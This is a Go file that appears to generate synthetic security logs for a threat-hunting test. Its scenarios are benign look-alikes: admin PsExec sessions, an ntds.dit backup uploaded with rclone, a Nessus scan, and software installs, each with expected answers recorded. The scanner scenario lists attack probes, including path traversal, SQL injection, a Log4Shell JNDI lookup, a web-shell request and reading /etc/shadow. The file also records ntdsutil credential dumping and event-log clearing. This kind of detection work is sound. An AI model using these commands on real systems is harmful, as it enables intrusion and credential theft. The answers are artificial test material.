package stranger

import (
	"fmt"
	"time"
)

func adminNight(o *org) {
	o.want.Decoy = true
	d0 := day(2025, 9, 1)
	adm := o.machine("ADM-WS-02.tern.example", "10.3.1.22", "winlogbeat", "wec.json")
	s1 := o.machine("TRN-APP04.tern.example", "10.3.9.4", "winlogbeat", "wec.json")
	s2 := o.machine("TRN-DB02.tern.example", "10.3.9.12", "winlogbeat", "wec.json")
	for _, m := range []*machine{adm, s1, s2} {
		m.cmd4688 = true
	}
	u := `TERN\adm-lukas`
	adm.live(d0, 25, u, "ws")
	s1.live(d0, 25, `TERN\svc_app`, "srv")
	s2.live(d0, 25, `TERN\svc_db`, "srv")
	for i, m := range []*machine{s1, s2, s1} {
		for _, d := range []int{3, 10, 17, 22} {
			t := clock(d0.AddDate(0, 0, d), "22:30:00").Add(time.Duration(i*17) * time.Minute)
			adm.logon(t.Add(-10*time.Minute), "", 2, u, "127.0.0.1", "ADM-WS-02")
			ex := adm.root(`C:\Windows\explorer.exe`, u)
			c := ex.run(t, "", s32+"cmd.exe", `"C:\Windows\system32\cmd.exe"`)
			p := c.run(t.Add(20*time.Second), "night/psexec", `C:\Tools\SysinternalsSuite\PsExec64.exe`, `PsExec64.exe \\`+m.host+` -s cmd`)
			p.net(t.Add(21*time.Second), "night/psexec", m.ip, 445, m.host)
			lid := m.logon(t.Add(21*time.Second), "night/logon", 3, u, "10.3.1.22", "ADM-WS-02")
			m.security(t.Add(21*time.Second), "night/logon", 4672, kv("SubjectUserName", "adm-lukas", "SubjectDomainName", "TERN", "SubjectLogonId", lid, "PrivilegeList", "SeDebugPrivilege"))
			m.service(t.Add(22*time.Second), "night/psexesvc", "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)
			sv := m.root(s32+"services.exe", sysUser).run(t.Add(23*time.Second), "night/psexesvc", `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`)
			x := sv.run(t.Add(24*time.Second), "night/cmd", s32+"cmd.exe", "cmd")
			x.run(t.Add(40*time.Second), "night/whoami", s32+"whoami.exe", "whoami")
			x.run(t.Add(60*time.Second), "night/net", s32+"net.exe", `net  localgroup administrators`)
			x.run(t.Add(80*time.Second), "night/systeminfo", s32+"systeminfo.exe", `systeminfo`)
			z := x.run(t.Add(3*time.Minute), "night/7z", `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -p D:\logs\iis-`+fmt.Sprint(d)+`.7z C:\inetpub\logs`)
			z.file(t.Add(4*time.Minute), "night/7z", fmt.Sprintf(`D:\logs\iis-%d.7z`, d))
			x.run(t.Add(6*time.Minute), "night/wevtutil", s32+"wevtutil.exe", `wevtutil epl Application D:\logs\app.evtx`)
			x.run(t.Add(8*time.Minute), "night/vss", s32+"vssadmin.exe", `vssadmin list shadows`)
			p7 := x.run(t.Add(9*time.Minute), "night/ps", s32+`WindowsPowerShell\v1.0\powershell.exe`, `powershell -ExecutionPolicy Bypass -File D:\scripts\Get-PatchLevel.ps1`)
			p7.file(t.Add(10*time.Minute), "night/ps", `D:\logs\patch.csv`)
		}
	}
	o.starts = map[string]string{"findings": "", "record": "@night/psexesvc", "record2": "@night/7z", "account": "adm-lukas"}
}

func backup(o *org) {
	o.want.Decoy = true
	d0 := day(2026, 1, 5)
	s := o.machine("BKP01", "10.6.1.9", "nxlog", "bkp01.json")
	s.cmd4688 = true
	s.live(d0, 25, `GULL\svc_backup`, "srv")
	z := o.zeek("zeek", false)
	z.live(d0, 25, "10.6.1.9", "10.6.2.20", "10.6.2.21")
	for d := 0; d < 25; d++ {
		t := clock(d0.AddDate(0, 0, d), "01:00:00").Add(time.Duration(o.r.Intn(60)) * time.Second)
		c := s.root(s32+"svchost.exe", sysUser).run(t, "job/cmd", s32+"cmd.exe", `cmd.exe /c D:\jobs\nightly.cmd`)
		v := c.run(t.Add(time.Second), "job/vss", s32+"vssadmin.exe", `vssadmin create shadow /for=D:`)
		_ = v
		n := c.run(t.Add(20*time.Second), "job/ntds", s32+"ntdsutil.exe", `ntdsutil "activate instance ntds" ifm "create full D:\jobs\ifm" quit quit`)
		n.file(t.Add(60*time.Second), "job/ntds", `D:\jobs\ifm\Active Directory\ntds.dit`)
		p := c.run(t.Add(3*time.Minute), "job/7z", `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -pBk!2 -mhe=on D:\jobs\out\ad-`+fmt.Sprint(d)+`.7z D:\jobs\ifm`)
		p.file(t.Add(4*time.Minute), "job/7z", fmt.Sprintf(`D:\jobs\out\ad-%d.7z`, d))
		r := c.run(t.Add(9*time.Minute), "job/rclone", `D:\jobs\rclone.exe`, `D:\jobs\rclone.exe copy D:\jobs\out b2:gull-bkp --transfers 8`)
		r.dns(t.Add(9*time.Minute+time.Second), "job/rclone", "pod-000-1104.backblaze.com", "104.153.233.177")
		r.net(t.Add(9*time.Minute+2*time.Second), "job/rclone", "104.153.233.177", 443, "-")
		z.https(t.Add(9*time.Minute+2*time.Second), "job/upload", "10.6.1.9", "104.153.233.177", "pod-000-1104.backblaze.com", 1800, 4000000000+o.r.Intn(900000000), 900000)
	}
	o.starts = map[string]string{"findings": "", "record": "@job/ntds", "value": "pod-000-1104.backblaze.com"}
}

func scanner(o *org) {
	o.want.Decoy = true
	d0 := day(2025, 11, 3)
	ac, sy := "www/access.log", "www/auth.log"
	for d := 0; d < 24; d++ {
		for k := 0; k < 40; k++ {
			o.apache(ac, d0.AddDate(0, 0, d).Add(time.Duration(o.r.Intn(86000))*time.Second), "", o.visitor(), "GET", []string{"/", "/flights", "/assets/m.css"}[o.r.Intn(3)], 200, 900+o.r.Intn(9000), agents[o.r.Intn(3)])
		}
		o.syslog(sy, clock(d0.AddDate(0, 0, d), "08:00:00"), "", "www1", "sshd[811]", "Accepted publickey for ops from 10.2.2.2 port 50011 ssh2: ED25519 SHA256:AAAAC3NzaC1lZDI1")
	}
	for _, d := range []int{2, 9, 16, 23} {
		t := clock(d0.AddDate(0, 0, d), "02:00:00")
		for i, p := range []string{"/../../../../etc/passwd", "/cgi-bin/test-cgi", "/index.php?id=1'%20OR%20'1'='1", "/?x=${jndi:ldap://10.2.2.9/a}", "/.git/config", "/wp-login.php", "/owa/auth/x.js", "/autodiscover/autodiscover.json?@evil.corp/mapi/nspi", "/cgi-bin/.%2e/.%2e/bin/sh", "/shell.php?cmd=id", "/vpns/cfg/smb.conf", "/solr/admin/info/system", "/manager/html", "/actuator/env", "/struts2-showcase/index.action"} {
			for k := 0; k < 4; k++ {
				o.apache(ac, t.Add(time.Duration(i*4+k)*3*time.Second), "scan/web", "10.2.2.9", "GET", p, []int{404, 400, 403, 404}[k], 200, "Mozilla/5.0 (compatible; Nessus SOAP v0.0.1)")
			}
		}
		for k := 0; k < 30; k++ {
			o.syslog(sy, t.Add(time.Duration(k*4)*time.Second), "scan/ssh", "www1", fmt.Sprintf("sshd[%d]", 9000+k), fmt.Sprintf("Failed password for invalid user %s from 10.2.2.9 port %d ssh2", []string{"admin", "test", "oracle", "root2"}[k%4], 41000+k))
		}
		o.syslog(sy, t.Add(5*time.Minute), "scan/ssh", "www1", "sshd[9900]", "Accepted password for nessus-scan from 10.2.2.9 port 42000 ssh2")
		o.syslog(sy, t.Add(5*time.Minute+time.Second), "scan/sudo", "www1", "sudo", "nessus-scan : TTY=unknown ; PWD=/home/nessus-scan ; USER=root ; COMMAND=/bin/cat /etc/shadow")
		for i, a := range [][]string{{"cat", "/etc/shadow"}, {"uname", "-a"}, {"find", "/", "-perm", "-4000"}, {"netstat", "-anp"}, {"id"}} {
			o.audit("www/audit.log", t.Add(5*time.Minute+time.Duration(i+2)*time.Second), "scan/audit", "", 9910+i, 9901, "0", a[0], "/usr/bin/"+a[0], a...)
		}
	}
	o.starts = map[string]string{"findings": "", "record": "@scan/audit", "value": "10.2.2.9"}
}

// an administrator who does this once
func adminOnce(o *org) {
	o.want.Decoy = true
	d0 := day(2025, 9, 1)
	adm := o.machine("NOC-3.tern.example", "10.3.1.23", "flat", "w/noc3.json")
	s := o.machine("TRN-APP05.tern.example", "10.3.9.5", "flat", "w/app5.json")
	adm.cmd4688, s.cmd4688 = true, true
	u := `TERN\adm-irene`
	adm.live(d0, 25, u, "ws")
	s.live(d0, 25, `TERN\svc_app`, "srv")
	for d := 0; d < 25; d += 2 {
		s.logon(clock(d0.AddDate(0, 0, d), "10:00:00"), "", 10, u, "10.3.1.23", "TRN-APP05")
	}
	t := clock(d0.AddDate(0, 0, 18), "23:10:00")
	adm.logon(t.Add(-5*time.Minute), "", 2, u, "127.0.0.1", "NOC-3")
	ex := adm.root(`C:\Windows\explorer.exe`, u)
	c := ex.run(t, "night/cmd", s32+"cmd.exe", `cmd.exe`)
	c.run(t.Add(time.Minute), "night/psexec", `C:\Tools\PsExec.exe`, `PsExec.exe \\TRN-APP05 -s cmd`).net(t.Add(61*time.Second), "night/psexec", "10.3.9.5", 445, "TRN-APP05")
	lid := s.logon(t.Add(61*time.Second), "night/logon", 3, u, "10.3.1.23", "NOC-3")
	s.security(t.Add(61*time.Second), "night/logon", 4672, kv("SubjectUserName", "adm-irene", "SubjectDomainName", "TERN", "SubjectLogonId", lid, "PrivilegeList", "SeDebugPrivilege"))
	s.service(t.Add(62*time.Second), "night/svc", "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)
	v := s.root(s32+"services.exe", sysUser).run(t.Add(63*time.Second), "night/svc", `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`)
	x := v.run(t.Add(64*time.Second), "night/cmd", s32+"cmd.exe", "cmd")
	for i, q := range [][2]string{{"whoami.exe", "whoami"}, {"ipconfig.exe", "ipconfig /all"}, {"net.exe", "net localgroup administrators"}, {"systeminfo.exe", "systeminfo"}} {
		x.run(t.Add(time.Duration(80+i*9)*time.Second), "night/look", s32+q[0], q[1])
	}
	z := x.run(t.Add(4*time.Minute), "night/7z", `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -pX D:\tmp\old.7z D:\app\logs`)
	z.file(t.Add(5*time.Minute), "night/7z", `D:\tmp\old.7z`)
	x.run(t.Add(9*time.Minute), "night/vss", s32+"vssadmin.exe", `vssadmin create shadow /for=D:`)
	x.run(t.Add(10*time.Minute), "night/log", s32+"wevtutil.exe", `wevtutil cl Application`)
	o.starts = map[string]string{"findings": "", "record": "@night/svc", "record2": "@night/7z", "host": "@night/look"}
}

// Zoom and Spotify put themselves into the profile
func newSoftware(o *org) {
	o.want.Decoy = true
	d0 := day(2026, 3, 2)
	p := o.machine("PC3311.wren.example", "10.8.20.99", "winlogbeat", "wl.json")
	u := `WREN\pia`
	p.live(d0, 20, u, "ws")
	t := clock(d0.AddDate(0, 0, 9), "11:00:00")
	ch := p.root(`C:\Program Files\Google\Chrome\Application\chrome.exe`, u)
	ch.dns(t, "soft/download", "download.scdn.co", "146.75.2.248")
	ch.net(t, "soft/download", "146.75.2.248", 443, "-")
	ch.file(t.Add(5*time.Second), "soft/download", `C:\Users\pia\Downloads\SpotifySetup.exe`)
	ex := p.root(`C:\Windows\explorer.exe`, u)
	i := ex.run(t.Add(30*time.Second), "soft/install", `C:\Users\pia\Downloads\SpotifySetup.exe`, `"C:\Users\pia\Downloads\SpotifySetup.exe"`)
	i.file(t.Add(40*time.Second), "soft/install", `C:\Users\pia\AppData\Roaming\Spotify\Spotify.exe`)
	i.net(t.Add(35*time.Second), "soft/install", "146.75.2.248", 443, "-")
	s := i.run(t.Add(50*time.Second), "soft/run", `C:\Users\pia\AppData\Roaming\Spotify\Spotify.exe`, `Spotify.exe`)
	s.reg(t.Add(55*time.Second), "soft/run", `HKU\S-1-5-21-1-1-1-1201\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Spotify`, `C:\Users\pia\AppData\Roaming\Spotify\Spotify.exe --autostart`)
	s.run(t.Add(56*time.Second), "soft/run", `C:\Users\pia\AppData\Roaming\Spotify\Spotify.exe`, `Spotify.exe --type=gpu-process`)
	for d := 9; d < 20; d++ {
		for k := 0; k < 20; k++ {
			at := clock(d0.AddDate(0, 0, d), "11:05:00").Add(time.Duration(k) * 10 * time.Minute)
			if k%5 == 0 {
				s.dns(at, "soft/run", "apresolve.spotify.com", "35.186.224.25")
			}
			s.net(at, "soft/run", "35.186.224.25", 443, "-")
		}
	}
	o.starts = map[string]string{"findings": "", "record": "@soft/run", "value": "apresolve.spotify.com", "install": "@soft/install"}
}

// a cloud backup that began in the middle of the evidence, of a host without logs
func newBackup(o *org) {
	o.want.Decoy = true
	d0 := day(2026, 6, 1)
	z := o.zeek("zeek", false)
	z.live(d0, 24, "10.9.1.1", "10.9.1.2", "10.9.1.3", "10.9.1.4")
	for d := 12; d < 24; d++ {
		t := clock(d0.AddDate(0, 0, d), "01:00:00").Add(time.Duration(o.r.Intn(30)) * time.Second)
		for k := 0; k < 6; k++ {
			z.dns(t, "backup/up", "10.9.1.4", "eu-central-1.backup-vault.example", "A", "3.5.140.2")
			z.https(t.Add(time.Duration(k)*10*time.Minute), "backup/up", "10.9.1.4", "3.5.140.2", "eu-central-1.backup-vault.example", 590, 900000000+o.r.Intn(9000000), 90000)
		}
	}
	o.starts = map[string]string{"findings": "", "record": "@backup/up", "value": "3.5.140.2"}
}

// a supplier's support by its usual tool, with a new script
func rmmSupport(o *org) {
	o.want.Decoy = true
	d0 := day(2026, 3, 2)
	p := o.machine("GATE-11", "10.7.7.11", "nxlog", "g11.json")
	p.live(d0, 20, `PELICAN\gate11`, "ws")
	s := p.root(`C:\Program Files (x86)\ScreenConnect Client (aa11)\ScreenConnect.ClientService.exe`, sysUser)
	for d := 0; d < 20; d++ {
		t := d0.AddDate(0, 0, d).Add(9 * time.Hour)
		s.dns(t, "", "relay.gateware.example", "203.0.113.70")
		s.net(t, "", "203.0.113.70", 443, "-")
	}
	t := clock(d0.AddDate(0, 0, 13), "10:00:00")
	c := s.run(t, "support/cmd", s32+"cmd.exe", `"cmd.exe" /c "C:\Windows\TEMP\ScreenConnect\23.9\77run.cmd"`)
	c.run(t.Add(time.Second), "support/ps", s32+`WindowsPowerShell\v1.0\powershell.exe`, `powershell -ExecutionPolicy Bypass -File C:\Windows\TEMP\ScreenConnect\23.9\fix.ps1`)
	c.run(t.Add(2*time.Second), "support/look", s32+"ipconfig.exe", "ipconfig /all")
	c.run(t.Add(3*time.Second), "support/look", s32+"systeminfo.exe", "systeminfo")
	c.run(t.Add(4*time.Second), "support/look", s32+"tasklist.exe", "tasklist")
	o.starts = map[string]string{"findings": "", "record": "@support/ps", "value": "relay.gateware.example"}
}
